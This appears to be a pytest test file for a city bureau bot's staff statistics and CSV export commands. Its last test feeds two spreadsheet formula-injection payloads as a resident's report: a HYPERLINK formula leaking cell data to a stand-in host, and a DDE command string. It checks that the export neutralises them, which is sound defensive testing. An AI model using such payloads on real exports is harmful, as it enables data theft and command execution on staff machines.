"""Staff ask how the bureau is doing: /stats sends a chart with a summary, /export csv sends the cases."""

from __future__ import annotations

import csv
import io
import logging
from collections.abc import AsyncIterator

import pytest

from bot.cases import insight_csv
from tests.support.driver import TestBed, text_of
from tests.support.staff_steps import ADMIN_ID, STAFF_GROUP, enlist, file_case, start_staff_bed


@pytest.fixture
async def bed(idle_bed: TestBed) -> AsyncIterator[TestBed]:
    await start_staff_bed(idle_bed)
    yield idle_bed


def sent_file(bed: TestBed, message: dict[str, object], kind: str) -> bytes:
    media = message[kind]
    file_id = media[-1]["file_id"] if isinstance(media, list) else media["file_id"]  # type: ignore[index]
    return bed.emulator.files[file_id].content


async def test_a_supervisor_gets_the_weeks_chart_in_their_language(bed: TestBed) -> None:
    for reporter in (9101, 9102):
        await file_case(bed, reporter)
    li = bed.person(9201, "李队长", "zh-hans")
    await enlist(bed, li, "supervisor")
    await li.send("/stats")
    chart = await li.expect_message()
    assert "photo" in chart
    assert "共2件。" in text_of(chart) and "结案率" in text_of(chart)
    png = sent_file(bed, chart, "photo")
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 30_000

    officer = bed.person(9202, "Officer Wu", "en")
    await enlist(bed, officer, "officer")
    await officer.send("/stats today")
    chart = await officer.expect_message()
    assert "photo" in chart
    assert "2 cases in all." in text_of(chart) and "Closure rate" in text_of(chart)


async def test_residents_may_not_see_the_statistics(bed: TestBed) -> None:
    resident = bed.person(9301, "Alice", "en")
    for command in ("/stats", "/export csv"):
        await resident.send(command)
        await resident.expect_message(contains="only city staff can do this")
    assert not bed.emulator.calls_of("sendPhoto") and not bed.emulator.calls_of("sendDocument")


@pytest.mark.parametrize(
    ("description", "command", "expected"),
    [
        ("an unknown word", "/stats yesterday", "I did not understand that period."),
        ("a day that does not exist", "/stats 2026-02-30..2026-03-02", "One of those dates does not exist."),
        ("backwards", "/stats 2026-03-02..2026-03-01", "The first date must not be after the last one."),
        ("too long", "/export csv 2020-01-01..2026-01-01", "That period is too long."),
        ("no format", "/export", "How to use /export"),
        ("an unknown format", "/export xlsx", "How to use /export"),
    ],
)
async def test_bad_requests_get_the_usage(bed: TestBed, description: str, command: str, expected: str) -> None:
    admin = bed.person(ADMIN_ID, "Admin", "en")
    await admin.send(command)
    reply = await admin.expect_message(contains=expected)
    assert "How to use" in text_of(reply), description


async def test_the_csv_export_of_the_month(bed: TestBed) -> None:
    case = await file_case(bed, 9401)
    admin = bed.person(ADMIN_ID, "Admin", "en")
    await admin.send("/export csv month")
    document = await admin.expect_message(contains="1 case filed")
    assert document["document"]["file_name"].startswith("cases-") and document["document"]["file_name"].endswith(".csv")
    data = sent_file(bed, document, "document")
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == insight_csv.CSV_COLUMNS
    assert rows[0]["number"] == case.public_no and rows[0]["reporter_name"] == ""
    assert "9401" not in data.decode("utf-8-sig")


async def test_stats_work_in_the_staff_group_too(bed: TestBed) -> None:
    admin = bed.person(ADMIN_ID, "Admin", "en")
    room = admin.in_group(bed.emulator.chats[STAFF_GROUP])
    await room.send("/stats month")
    chart = await room.expect_message()
    assert "photo" in chart and "No cases were filed in this period." in text_of(chart)


@pytest.mark.parametrize(
    ("language", "command", "expected"),
    [
        (
            "en",
            "/stats 0001-01-01..0001-01-02",
            "That date is out of range: dates go from Jan 1, 1970 to Dec 31, 2100.",
        ),
        ("en", "/export csv 9999-12-30..9999-12-31", "That date is out of range"),
        ("zh-hans", "/stats 9999-12-30..9999-12-31", "日期超出范围：日期须在1970年1月1日至2100年12月31日之间。"),
        ("zh-hans", "/export csv 0001-01-01..0001-01-02", "日期超出范围"),
    ],
)
async def test_dates_out_of_range_get_a_translated_answer(
    bed: TestBed, caplog: pytest.LogCaptureFixture, language: str, command: str, expected: str
) -> None:
    supervisor = bed.person(9501, "Supervisor", language)
    await enlist(bed, supervisor, "supervisor")
    await supervisor.send(command)
    await supervisor.expect_message(contains=expected)
    await supervisor.expect_no_message(wait=0.5)  # no apology after it
    assert not bed.emulator.calls_of("sendPhoto") and not bed.emulator.calls_of("sendDocument")
    assert [r for r in caplog.records if r.levelno >= logging.ERROR] == []
    admin = bed.person(ADMIN_ID, "Admin", "en")
    await admin.expect_no_message(wait=0.3)  # and no alert for the admins


async def test_the_csv_export_cannot_carry_a_formula_into_a_spreadsheet(bed: TestBed) -> None:
    """A resident types a formula as the address and the description; the export shows them as text (OWASP)."""
    description = '=HYPERLINK("http://evil.example/?"&A1,"Open case")'
    address = '@SUM(1+1)*cmd|" /C calc"!A0'
    resident = bed.person(9601, "Mallory", "en")
    await resident.send("/report")
    await resident.press(await resident.expect_message(contains="What kind of problem"), "Exposed garbage")
    await resident.expect_message(contains="Where is it?")
    await resident.send(address)
    await resident.expect_message(contains="Address noted")
    await resident.press(await resident.expect_message(contains="Which district"), "Wuhan")
    await resident.expect_message(contains="describe the problem")
    await resident.send(description)
    await resident.press(await resident.expect_message(contains="A photo helps"), "Skip")
    await resident.press(await resident.expect_message(contains="Please check your report"), "Submit")
    await resident.expect_message(contains="Your report number is")
    row = await bed.db.fetchone("SELECT address_text, description FROM reports")
    assert tuple(row) == (address, description)  # stored as typed: only the spreadsheet is guarded

    admin = bed.person(ADMIN_ID, "Admin", "en")
    await admin.send("/export csv today")
    document = await admin.expect_message(contains="1 case filed")
    text = sent_file(bed, document, "document").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["description"] == "'" + description
    assert rows[0]["address"] == "'" + address
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), column
            assert not cell.startswith("-") or column in insight_csv.NUMBER_COLUMNS, column
